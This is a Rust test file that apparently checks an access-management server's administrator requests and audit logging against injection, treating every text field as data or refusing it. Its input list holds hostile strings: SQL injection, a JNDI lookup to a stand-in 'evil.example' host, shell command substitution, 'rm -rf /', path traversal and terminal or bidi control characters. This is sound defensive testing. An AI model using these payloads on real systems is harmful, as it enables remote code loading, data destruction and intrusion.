//! Text that would be more than text elsewhere, in every place for text of every request of an administrator: it is kept as it is
//! or refused with a typed error, and what is logged of it stays one line that does nothing (V-03).

use std::collections::BTreeSet;

use serde_json::{Value, json};

use super::super::transfer::Transfer;
use super::isolation::Hidden;
use super::matrix::{Furnished, furnished, told};
use super::requests::{About, kinds_of, rows};
use crate::audit::AuditEvent;
use crate::control::{Edit, EditVerb, ModelEdit, RepRequest, TransferAnswer, TransferRequest, VaultRequest};
use crate::export::{SyslogFormat, SyslogTransport, records};
use crate::model::Change;
use crate::text::acts;

const CORPUS: &[&str] = &[
    "'; DROP TABLE items; --",
    "\" OR \"1\"=\"1",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "$(touch /tmp/x)",
    "a; rm -rf /",
    "quote\"'`\\",
    "../../etc/passwd",
    "=1+1",
    "nul\0byte",
    "one\r\n{\"seq\":1}",
    "\u{1b}]0;title\u{7}",
    "\u{202e}exe",
    "zero\u{200b}width",
];

/// Where in a request there is, or might be, text: JSON pointers.
fn places(value: &Value, at: &str, found: &mut BTreeSet<String>) {
    match value {
        Value::String(_) | Value::Null => {
            found.insert(at.to_owned());
        }
        Value::Array(values) => {
            for (number, value) in values.iter().enumerate() {
                places(value, &format!("{at}/{number}"), found);
            }
        }
        Value::Object(fields) => {
            for (name, value) in fields {
                places(value, &format!("{at}/{name}"), found);
            }
        }
        Value::Bool(_) | Value::Number(_) => {}
    }
}

/// Whether a text stands in it as it is.
fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(one) => one == text,
        Value::Array(values) => values.iter().any(|value| holds(value, text)),
        Value::Object(fields) => fields.values().any(|value| holds(value, text)),
        _ => false,
    }
}

fn objects(value: &Value, at: &str, found: &mut Vec<String>) {
    match value {
        Value::Array(values) => {
            for (number, value) in values.iter().enumerate() {
                objects(value, &format!("{at}/{number}"), found);
            }
        }
        Value::Object(fields) => {
            found.push(at.to_owned());
            for (name, value) in fields {
                objects(value, &format!("{at}/{name}"), found);
            }
        }
        _ => {}
    }
}

fn read(value: &Value) -> Result<RepRequest, String> {
    // As it comes over a connection.
    serde_json::from_str(&value.to_string()).map_err(|error| error.to_string())
}

/// The fields that an object of a request does not have and could: the reader names them when it meets one that nobody has.
fn absent(request: &Value, object: &str) -> Vec<String> {
    let mut request = request.clone();
    let Some(Value::Object(fields)) = request.pointer_mut(object) else {
        return Vec::new();
    };
    let there: BTreeSet<String> = fields.keys().cloned().collect();
    fields.insert("?".to_owned(), Value::Null);
    let Err(error) = read(&request) else {
        return Vec::new();
    };
    let Some((_, expected)) = error.split_once("unknown field `?`, expected ") else {
        return Vec::new();
    };
    let names = expected.split('`').skip(1).step_by(2).map(str::to_owned);
    names.filter(|name| !there.contains(name)).collect()
}

/// A place for text in a request, and the form that a text may take there.
struct Slot {
    object: String,
    /// The field that the object does not have yet; `None` is the place itself.
    field: Option<String>,
    form: fn(&str) -> Value,
}

impl Slot {
    fn at(&self) -> String {
        let field = self.field.iter().map(|field| format!("/{field}"));
        std::iter::once(self.object.clone()).chain(field).collect()
    }

    fn with(&self, request: &Value, text: &str) -> Value {
        let mut changed = request.clone();
        let place = changed.pointer_mut(&self.object).unwrap();
        match &self.field {
            Some(field) => place[field] = (self.form)(text),
            None => *place = (self.form)(text),
        }
        changed
    }
}

fn slots(request: &Value) -> Vec<Slot> {
    let mut found = BTreeSet::new();
    places(request, "", &mut found);
    let mut slots = Vec::new();
    let forms: [fn(&str) -> Value; 3] = [
        |text| json!(text),
        |text| json!([text]),
        |text| json!({ "set": text }),
    ];
    for object in found {
        let (field, form) = (None, forms[0]);
        slots.push(Slot { object, field, form });
    }
    let mut inside = Vec::new();
    objects(request, "", &mut inside);
    for object in inside {
        for field in absent(request, &object) {
            for form in forms {
                let (object, field) = (object.clone(), Some(field.clone()));
                slots.push(Slot { object, field, form });
            }
        }
    }
    slots
}

/// A name of something that is there.
fn there_is(about: About) -> &'static str {
    match about {
        About::Nothing => "",
        About::Item => "m-1",
        About::User => "kim",
        About::Group => "mine",
        About::Jumpoint => "berlin",
        About::Login => "500",
        About::Session => "11111111111111111111111111111111",
        About::Approval => "60",
        About::Policy => "policy-here",
        About::SessionPolicy => "session-here",
        About::Account => "own",
        About::AccountGroup => "accounts-here",
    }
}

/// Everything that a site has, as changes.
async fn whole(site: &Furnished) -> Vec<Change> {
    let (mut transfer, mut changes, mut first) = (Transfer::default(), Vec::new(), true);
    loop {
        let read = TransferRequest::Read { first };
        let part = transfer.step(&site.scene.broker, &site.root, read).await.unwrap();
        let TransferAnswer::Part {
            changes: more, last, ..
        } = part
        else {
            unreachable!("{part:?}");
        };
        changes.extend(more);
        first = false;
        if last {
            return changes;
        }
    }
}

/// An event as a line of the log and as messages: one line each, in which nothing acts.
fn stays_one_line(event: &AuditEvent, sequence: usize) {
    let json = serde_json::to_vec(event).unwrap();
    assert!(!json.iter().any(u8::is_ascii_control), "{event:?}");
    let logged = crate::audit::LoggedEvent {
        at: Default::default(),
        json: json.into(),
    };
    assert!(
        logged.event().as_ref() == Some(event),
        "{sequence}: it reads back"
    );
    for record in records(&logged).unwrap() {
        for message in SyslogFormat::for_transport(SyslogTransport::Tcp).messages(&record) {
            // The mark at the beginning of the text is RFC 5424's.
            let acting = message.chars().find(|c| *c != '\u{feff}' && acts(*c));
            assert_eq!(acting, None, "{message:?}");
        }
    }
}

/// Whether the answer to this, if it is a good one, means that all its text is now part of the site.
fn keeps(request: &RepRequest) -> bool {
    match request {
        RepRequest::Edit(_) => true,
        RepRequest::Vault(request) => matches!(
            request,
            VaultRequest::Add { .. } | VaultRequest::AddGroup { .. } | VaultRequest::Associate { .. }
        ),
        _ => false,
    }
}

/// The text in the site or in what was logged of the request, as it was.
async fn is_kept(site: &Furnished, events: &[AuditEvent], text: &str) -> bool {
    let quoted = format!("{text:?}");
    let inner = quoted.trim_matches('"');
    let vault = site.scene.broker.0.vault.as_ref().unwrap();
    format!("{events:?}").contains(inner)
        || format!("{:?}", site.scene.broker.world()).contains(inner)
        || format!("{:?}", vault.accounts().await.unwrap()).contains(inner)
        || format!("{:?}", vault.groups().await.unwrap()).contains(inner)
}

#[derive(Debug, Default)]
struct Tally {
    unread: usize,
    refused: usize,
    done: usize,
    kept: BTreeSet<String>,
    lost: BTreeSet<String>,
}

impl Tally {
    async fn ask(&mut self, site: &Furnished, known: &mut usize, at: &str, value: &Value, text: &str) {
        let Ok(request) = read(value) else {
            self.unread += 1;
            return;
        };
        let what = format!("{:?} {at}", kinds_of(&request));
        let taken = serde_json::to_value(&request).unwrap();
        assert!(holds(&taken, text), "{what}: {text:?} became {taken}");
        let keeps = keeps(&request);
        let (failed, said) = told(site, &site.root, request, "\0").await;
        let events = site.scene.logged_behind(*known);
        for event in &events {
            stays_one_line(event, *known);
        }
        *known += events.len();
        match failed {
            Some(_) => {
                assert!(!said.contains('\n'), "{what}: {said:?}");
                self.refused += 1;
            }
            None => {
                self.done += 1;
                if keeps {
                    let kept = is_kept(site, &events, text).await;
                    let places = if kept { &mut self.kept } else { &mut self.lost };
                    places.insert(format!("{what} {text:?}"));
                }
            }
        }
    }
}

/// The request, and where it edits something by name, as it would be made anew.
fn asked(ask: fn(&str) -> RepRequest, named: &str, new: bool) -> Value {
    let mut request = ask(named);
    if new && let RepRequest::Edit(Edit::Model(edit)) = &mut request {
        match edit {
            ModelEdit::Role(edit) => edit.verb = EditVerb::Add,
            ModelEdit::JumpPolicy(edit) => edit.verb = EditVerb::Add,
            ModelEdit::SessionPolicy(edit) => edit.verb = EditVerb::Add,
            ModelEdit::GroupPolicy(edit) => edit.verb = EditVerb::Add,
            ModelEdit::Team(edit) => edit.verb = EditVerb::Add,
            ModelEdit::User(_) | ModelEdit::Group(_) | ModelEdit::Jumpoint(_) | ModelEdit::Site(_) => {}
        }
    }
    serde_json::to_value(request).unwrap()
}

#[tokio::test]
async fn v03_injections_in_every_administrators_request_are_data_or_refused() {
    let hidden = Hidden {
        number: 60,
        tail: "here",
    };
    let (mut tally, mut kinds, mut number) = (Tally::default(), BTreeSet::new(), 0);
    let mut site = furnished(&hidden).await;
    for (about, ask) in rows() {
        kinds.extend(kinds_of(&ask(there_is(about))));
        for new in [false, true] {
            let slots = slots(&asked(ask, there_is(about), new));
            for text in CORPUS {
                number += 1;
                let fresh = format!("new-{number}");
                let named = match about {
                    About::Login | About::Session | About::Approval if new => continue,
                    _ if new => &fresh,
                    _ => there_is(about),
                };
                let value = asked(ask, named, new);
                for slot in &slots {
                    let before = site.scene.broker.world().revision();
                    let mut known = site.scene.logged_behind(0).len();
                    let changed = slot.with(&value, text);
                    tally.ask(&site, &mut known, &slot.at(), &changed, text).await;
                    // What was renamed, taken away or added must not be in the way of the next.
                    if site.scene.broker.world().revision() != before {
                        site = furnished(&hidden).await;
                    }
                }
            }
        }
    }
    assert!(tally.lost.is_empty(), "{:#?}", tally.lost);
    assert!(
        tally.unread > 1000 && tally.refused > 1000,
        "{} {}",
        tally.unread,
        tally.refused
    );
    assert!(
        tally.kept.len() > 200 && kinds.len() > 60,
        "{} {}",
        tally.kept.len(),
        kinds.len()
    );
}

#[tokio::test]
async fn v03_injections_in_every_object_of_a_site_are_data_or_refused() {
    let hidden = Hidden {
        number: 60,
        tail: "here",
    };
    let site = furnished(&hidden).await;
    let mut known = site.scene.logged_behind(0).len();
    let mut tally = Tally::default();
    for change in whole(&site).await {
        let edit = Edit::Change {
            changes: vec![change],
            dry_run: false,
        };
        let value = serde_json::to_value(RepRequest::Edit(edit)).unwrap();
        for slot in slots(&value) {
            for text in CORPUS {
                let changed = slot.with(&value, text);
                tally.ask(&site, &mut known, &slot.at(), &changed, text).await;
            }
        }
    }
    assert!(!is_kept(&site, &[], "what nobody said").await);
    assert!(tally.lost.is_empty(), "{:#?}", tally.lost);
    assert!(
        tally.unread > 1000 && tally.kept.len() > 40,
        "{} {}",
        tally.unread,
        tally.kept.len()
    );
}
